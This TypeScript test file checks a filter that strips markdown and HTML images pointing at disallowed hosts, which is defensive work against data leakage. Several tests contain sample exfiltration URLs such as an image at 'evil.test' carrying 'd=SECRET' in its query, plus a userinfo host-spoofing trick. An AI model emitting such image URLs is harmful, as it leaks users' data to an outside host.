import { fc, test } from '@fast-check/vitest';
import { describe, expect, it } from 'vitest';
import { compileLinks, IMAGE_REMOVED, linkOptionsSchema } from '../../src/http/links.js';

const links = (options: object = {}) => compileLinks(linkOptionsSchema.parse(options));

describe('output link policy', () => {
  it('removes markdown images pointing at hosts that are not allowed', () => {
    const policy = links({ allowedHosts: ['cdn.example.com'] });
    const text =
      'Here ![chart](https://evil.test/p.png?d=SECRET) and ![ok](https://cdn.example.com/a.png)';
    expect(policy.rewrite(text)).toEqual({
      text: `Here ${IMAGE_REMOVED} and ![ok](https://cdn.example.com/a.png)`,
      count: 1,
    });
  });

  it('removes HTML images too and keeps relative images', () => {
    const policy = links();
    expect(
      policy.rewrite('<img src="https://evil.test/x?q=1" alt="a"> ![r](/local.png)').text,
    ).toBe(`${IMAGE_REMOVED} ![r](/local.png)`);
  });

  it('keeps links by default and rewrites them to their text with rewrite: all', () => {
    const text = 'see [docs](https://evil.test/?c=abc)';
    expect(links().rewrite(text).text).toBe(text);
    expect(links({ rewrite: 'all' }).rewrite(text).text).toBe('see docs');
    expect(links({ rewrite: 'all', allowedHosts: ['*.test'] }).rewrite(text).text).toBe(text);
    expect(links({ rewrite: 'none' }).rewrite('![x](https://evil.test/a)').text).toBe(
      '![x](https://evil.test/a)',
    );
  });

  it('finds an image even behind a stray opening bracket', () => {
    expect(links().rewrite('[ ![x](https://evil.test/p?d=1)').text).toBe(`[ ${IMAGE_REMOVED}`);
    expect(links().rewrite('[[![x](https://evil.test/p)](https://a.test)').count).toBe(1);
  });

  it('treats userinfo and ports correctly when matching hosts', () => {
    const policy = links({ allowedHosts: ['good.test'] });
    expect(policy.rewrite('![a](https://good.test@evil.test/x)').count).toBe(1);
    expect(policy.rewrite('![a](https://good.test:8443/x)').count).toBe(0);
  });

  test.prop([
    fc.string({ maxLength: 80 }),
    fc.array(fc.integer({ min: 1, max: 20 }), { minLength: 1, maxLength: 10 }),
  ])('streaming gives the same output as one-shot for any chunking', (prefix, cuts) => {
    const policy = links();
    const text = `${prefix} ![x](https://evil.test/p?d=1) [y](https://a.test) <img src=https://e.test/i>${prefix}`;
    const stream = policy.stream();
    let out = '';
    let at = 0;
    for (const cut of cuts) {
      out += stream.push(text.slice(at, at + cut));
      at += cut;
    }
    out += stream.push(text.slice(at));
    out += stream.flush();
    expect(out).toBe(policy.rewrite(text).text);
  });

  it('stays linear on adversarial input', () => {
    const policy = links();
    const inputs = [
      '!['.repeat(50_000),
      `![a](${'a'.repeat(100_000)}`,
      `[x](${' '.repeat(100_000)}`,
      '<img '.repeat(20_000),
    ];
    for (const input of inputs) {
      const started = performance.now();
      policy.rewrite(input);
      const stream = policy.stream();
      for (let i = 0; i < input.length; i += 1000) stream.push(input.slice(i, i + 1000));
      stream.flush();
      expect(performance.now() - started).toBeLessThan(2000);
    }
  });
});
